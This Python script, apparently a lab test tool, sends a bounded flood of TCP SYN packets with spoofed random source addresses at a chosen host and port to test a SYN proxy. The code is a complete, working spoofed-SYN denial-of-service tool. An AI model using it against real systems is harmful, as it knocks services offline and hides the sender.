#!/usr/bin/env python3
"""synflood: a bounded spoofed-SYN flood for the lab tests (SYN proxy, table budgets).

Sends TCP SYNs to DST:PORT from random source addresses and ports (from --src-net) through a raw
IPv4 socket (IP_HDRINCL: the kernel routes and resolves the next hop, the source is ours), as fast
as the namespace can, until --count SYNs are sent or --seconds pass, whichever comes first.
Standard library only; needs CAP_NET_RAW (root in a lab namespace):

    ip netns exec rvs-client python3 ci/tools/synflood.py 192.168.100.100 80 --count 50000 --seconds 20

Prints `sent=N seconds=S rate=R stopped=count|seconds|file` (why it stopped) on exit.
"""

import argparse
import ipaddress
import os
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src: bytes, dst: bytes, sport: int, dport: int, seq: int) -> bytes:
    # MSS 1460, SACK-permitted, timestamps, window scale 7: what a Linux client offers.
    opts = struct.pack("!BBH", 2, 4, 1460) + bytes([4, 2, 8, 10]) + struct.pack("!II", seq, 0)
    opts += bytes([1, 3, 3, 7])
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (5 + len(opts) // 4) << 4, 0x02, 64240, 0, 0)
    tcp += opts
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    c = checksum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main(argv=None) -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("dst")
    p.add_argument("port", type=int)
    p.add_argument("--count", type=int, default=10000, help="most SYNs to send")
    p.add_argument("--seconds", type=float, default=10.0, help="most time to spend")
    p.add_argument("--until-file", help="stop once this file exists (checked every 256 SYNs)")
    p.add_argument("--src-net", default="10.0.0.0/8", help="network the sources are drawn from")
    p.add_argument("--seed", type=int, default=1)
    a = p.parse_args(argv)
    net = ipaddress.ip_network(a.src_net)
    base, size = int(net.network_address), net.num_addresses
    rng = random.Random(a.seed)
    dst = socket.inet_aton(a.dst)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start = time.monotonic()
    deadline = start + a.seconds
    sent = 0
    stopped = "count"
    while sent < a.count:
        if sent % 256 == 0:
            if time.monotonic() > deadline:
                stopped = "seconds"
                break
            if a.until_file and os.path.exists(a.until_file):
                stopped = "file"
                break
        src = struct.pack("!I", base + rng.randrange(1, size - 1))
        frame = syn(src, dst, rng.randrange(1024, 65536), a.port, rng.getrandbits(32))
        try:
            s.sendto(frame, (a.dst, 0))
            sent += 1
        except OSError:
            time.sleep(0.001)  # a full socket buffer: let the link drain
    took = time.monotonic() - start
    print(f"sent={sent} seconds={took:.1f} rate={sent / max(took, 1e-9):.0f} stopped={stopped}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
